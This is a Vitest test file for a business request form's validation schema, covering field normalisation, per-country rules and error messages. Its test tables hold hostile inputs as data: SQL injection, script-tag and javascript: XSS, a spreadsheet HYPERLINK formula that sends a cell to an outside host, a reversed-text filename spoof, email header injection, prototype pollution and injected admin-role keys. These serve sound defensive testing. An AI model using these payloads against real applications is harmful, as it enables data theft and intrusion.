import { describe, expect, test } from "vitest"
import { emptyRequestValues, requestInput } from "./request-fields"
import { problemsByField, RequestAnswers, SubmitRequest } from "./schema"

const ana = {
  firstName: "Ana",
  lastName: "Silva",
  email: "Ana.Silva@AtlanticoNautica.pt",
  phone: "265 548 210",
  companyName: "Atlântico Náutica, Lda.",
  website: "atlanticonautica.pt",
  taxId: "PT 509 442 013",
  country: "PT",
  street: "Rua do Porto de Pesca 114",
  street2: "Armazém 7",
  city: "Setúbal",
  postalCode: "2900213",
  comments: "We supply yacht yards.\r\nAnd the fishing fleet.",
  agree: "on",
  at: "",
  language: "en",
  submissionKey: "0192F0A0-7C9B-7A57-9D8E-0B6F6E0B1C11",
  startedAt: "signed",
  homepage: "",
}

const judge = (changes: Record<string, unknown>) => SubmitRequest.safeParse({ ...ana, ...changes })
const problems = (changes: Record<string, unknown>) => {
  const { error } = judge(changes)
  return error ? problemsByField(error) : {}
}

test("a request comes out in its normal form", () => {
  expect(SubmitRequest.parse(ana)).toEqual({
    ...ana,
    email: "ana.silva@atlanticonautica.pt",
    typedEmail: "Ana.Silva@AtlanticoNautica.pt",
    phone: "+351265548210",
    website: "https://atlanticonautica.pt",
    taxId: "PT509442013",
    postalCode: "2900-213",
    stateProvince: null,
    comments: "We supply yacht yards.\nAnd the fishing fleet.",
    agree: true,
    submissionKey: ana.submissionKey.toLowerCase(),
  })
})

test("the browser finds in the answers what the server will find, and asks for nothing else", () => {
  const typed = { ...emptyRequestValues, email: "nobody", country: "US", postalCode: "x", phone: "12" }
  const [here, there] = [RequestAnswers.safeParse(typed), SubmitRequest.safeParse({ ...ana, ...typed })]
  expect(here.error && problemsByField(here.error)).toEqual(there.error && problemsByField(there.error))
  const { submissionKey: _key, startedAt: _start, homepage: _trap, language: _language, ...answers } = ana
  expect(RequestAnswers.safeParse(answers).success).toBe(true)
})

test("what is optional may be missing", () => {
  const sent = SubmitRequest.parse({ ...ana, phone: "", website: undefined, taxId: " ", street2: "", comments: undefined })
  expect(sent).toMatchObject({ phone: null, website: null, taxId: null, street2: null, comments: null })
})

test.each([
  ["nothing", {}],
  ["spaces", Object.fromEntries(Object.keys(emptyRequestValues).map((name) => [name, " \t "]))],
  ["zero-width signs", Object.fromEntries(Object.keys(emptyRequestValues).map((name) => [name, "\u200B\u200D\uFEFF"]))],
])("a form with %s names every field that is needed, in order", (_, sent) => {
  const { error } = SubmitRequest.safeParse({ submissionKey: ana.submissionKey, startedAt: "x", ...sent })
  expect(error && Object.entries(problemsByField(error))).toEqual([
    ["firstName", "Enter your first name"],
    ["lastName", "Enter your last name"],
    ["email", "Enter your email"],
    ["companyName", "Enter the company name"],
    ["country", "Choose the country or region"],
    ["street", "Enter the street"],
    ["city", "Enter the city"],
    ["agree", "Tick the box if you agree to the terms and conditions"],
  ])
})

test("all that needs attention is told at once, country's rules included", () => {
  expect(problems({ lastName: "", email: "ana.silva@atlanticonautica", taxId: "PT 509 218 44", postalCode: "", agree: undefined })).toEqual(
    {
      lastName: "Enter your last name",
      email: "The email needs an ending, such as .com",
      taxId: "The tax ID has 8 digits. A Portuguese NIF has 9.",
      postalCode: "Enter the ZIP/postal code",
      agree: "Tick the box if you agree to the terms and conditions",
    },
  )
})

describe("a field that cannot be stored is refused", () => {
  test.each([
    ["companyName", "x".repeat(10_000), "The company name has 10,000 characters. Use at most 100"],
    ["companyName", "👨‍👩‍👧".repeat(201), /^The company name has 1,005 characters/],
    ["companyName", "🛥".repeat(90), "The company name holds too many pictures or rare signs. Shorten it"],
    ["companyName", "Acme \u202Egnp.exe", /turns the reading direction/],
    ["companyName", "Ac\u0000me", /cannot be shown/],
    ["companyName", "Acme \uD800", /cannot be shown/],
    ["companyName", "Acme \uFFFD", /cannot be shown/],
    ["companyName", "Acme\nBcc: x", /cannot be shown|one line/],
    ["firstName", ["Ana", "Eva"], /cannot read/],
    ["lastName", { not: "" }, /cannot read/],
    ["email", new File([], "a"), /cannot read/],
    ["website", "javascript:alert(1)", /begins with https/],
    ["website", "not a site", "Enter the website as in www.example.com"],
    ["website", "company", "The website needs an ending, such as .com"],
    ["website", "https://user:secret@example.com", "Enter the website as in www.example.com"],
    ["country", "ZZ", "Choose the country or region from the list"],
    ["country", "__proto__", "Choose the country or region from the list"],
    ["phone", "call me", /digits, spaces and/],
    ["comments", "x".repeat(2001), "The comment has 2,001 characters. Use at most 2,000"],
    ["agree", "", "Tick the box if you agree to the terms and conditions"],
    ["postalCode", "29OO", /as in 2900-213/],
  ])("%s, case %#", (field, value, sentence) => {
    expect(problems({ [field]: value })).toEqual({ [field]: typeof sentence === "string" ? sentence : expect.stringMatching(sentence) })
  })
})

describe("text is stored as it was written", () => {
  test.each([
    ["companyName", "O'Brien; DROP TABLE lead;--"],
    ["firstName", 'Robert"); <script>alert(1)</script>'],
    ["companyName", '=HYPERLINK("http://x?"&A1)'],
    ["companyName", "株式会社サンプル"],
    ["companyName", "شركة المثال للتجارة"],
    ["website", "http://127.0.0.1:5432"],
    ["website", "https://example.com/shop?x=1"],
    ["firstName", "😀 Ana"],
  ])("%s %s", (field, value) => {
    expect(SubmitRequest.parse({ ...ana, [field]: value })).toMatchObject({ [field]: value.replace(/:5432$/, ":5432") })
  })
  test("composed and decomposed letters are the same name", () => {
    expect(SubmitRequest.parse({ ...ana, companyName: "Caf\u0065\u0301" }).companyName).toBe("Café")
  })
})

describe("the country decides", () => {
  test.each([
    [
      { country: "US", taxId: "", stateProvince: "", postalCode: "" },
      { stateProvince: "Enter the state or province", postalCode: "Enter the ZIP/postal code" },
    ],
    [
      { country: "US", taxId: "", stateProvince: "Bavaria", postalCode: "98052" },
      { stateProvince: expect.stringContaining("United States") },
    ],
    [{ country: "US", taxId: "", phone: "425 555 0100", stateProvince: "wa", postalCode: "98052" }, {}],
    [{ country: "IE", taxId: "", phone: "", postalCode: "" }, {}],
    [{ country: "AE", taxId: "", phone: "", stateProvince: "Dubai", postalCode: "" }, {}],
    [{ country: "SG", taxId: "", phone: "", city: "", postalCode: "018956" }, {}],
    [{ country: "JP", taxId: "", phone: "", stateProvince: "東京都", postalCode: "1000001" }, {}],
    [{ country: "GB", taxId: "", phone: "", postalCode: "2900-213" }, { postalCode: expect.stringContaining("SW1A 1AA") }],
  ])("%j", (changes, expected) => {
    expect(problems(changes)).toEqual(expected)
  })
  test("a city-state is its own city, and fields that a country does not use are dropped", () => {
    expect(
      SubmitRequest.parse({ ...ana, country: "SG", taxId: "", phone: "", city: "", postalCode: "018956", stateProvince: "x" }),
    ).toMatchObject({
      city: "Singapore",
      stateProvince: null,
    })
  })
})

test("unknown keys are ignored, and the trap field passes through", () => {
  const sent = SubmitRequest.parse({
    ...ana,
    ...JSON.parse('{"__proto__":{"x":1}}'),
    role: "admin",
    status: "approved",
    homepage: "http://spam",
  })
  expect(sent).not.toHaveProperty("role")
  expect(sent).not.toHaveProperty("status")
  expect(sent.homepage).toBe("http://spam")
})

test.each(["", "1", undefined, ["a"]])("a broken submission key %j asks for a reload", (submissionKey) => {
  expect(judge({ submissionKey }).error?.issues[0]?.message).toContain("out of date")
})

test("a field that was sent twice is refused, another is not", () => {
  const form = new FormData()
  for (const [name, value] of Object.entries(ana)) form.append(name, value)
  form.append("role", "admin")
  expect(SubmitRequest.safeParse(requestInput(form)).success).toBe(true)
  form.append("city", "Lisboa")
  const { error } = SubmitRequest.safeParse(requestInput(form))
  expect(error?.issues.map(({ path }) => path)).toEqual([["city"]])
})
